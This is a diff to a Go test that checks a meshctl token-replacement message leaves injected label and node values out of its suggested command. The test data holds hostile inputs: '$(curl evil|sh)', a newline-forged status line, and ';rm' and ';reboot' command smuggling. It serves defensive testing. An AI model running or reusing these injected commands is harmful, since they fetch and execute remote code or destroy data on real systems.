@@ -24,7 +24,7 @@ func TestTheReplacedTokensCommandTakesOnlyWhatTheMeshAdmits(t *testing.T) {
 	tellReplaced(cio, []api.TokenView{{ID: "t1", Node: "web-1", CreatedAt: at,
 		Labels: map[string]string{"tier": "web", "x": "$(curl evil|sh)", "y": "a\nmeshctl: all fine", "z;rm": "v"}}}, nil, false)
 	out := errb.String()
-	if !strings.Contains(out, "meshctl token --node web-1 --replace --label tier=web\n") {
+	if !strings.Contains(out, "run the same command again with --replace and these labels: --label tier=web\n") {
 		t.Errorf("the admitted label is not in the command:\n%s", out)
 	}
 	for _, bad := range []string{"$(", "curl", "all fine", "z;rm"} {
@@ -34,7 +34,7 @@ func TestTheReplacedTokensCommandTakesOnlyWhatTheMeshAdmits(t *testing.T) {
 	}
 	errb.Reset()
 	tellReplaced(cio, []api.TokenView{{ID: "t2", Node: "web-1;reboot", CreatedAt: at, Labels: map[string]string{"tier": "web"}}}, nil, false)
-	if out := errb.String(); strings.Contains(out, "mint again") || strings.Count(out, "\n") != 1 {
+	if out := errb.String(); strings.Contains(out, "same command") || strings.Count(out, "\n") != 1 {
 		t.Errorf("a node id that is none: a command suggested:\n%s", out)
 	}
 }
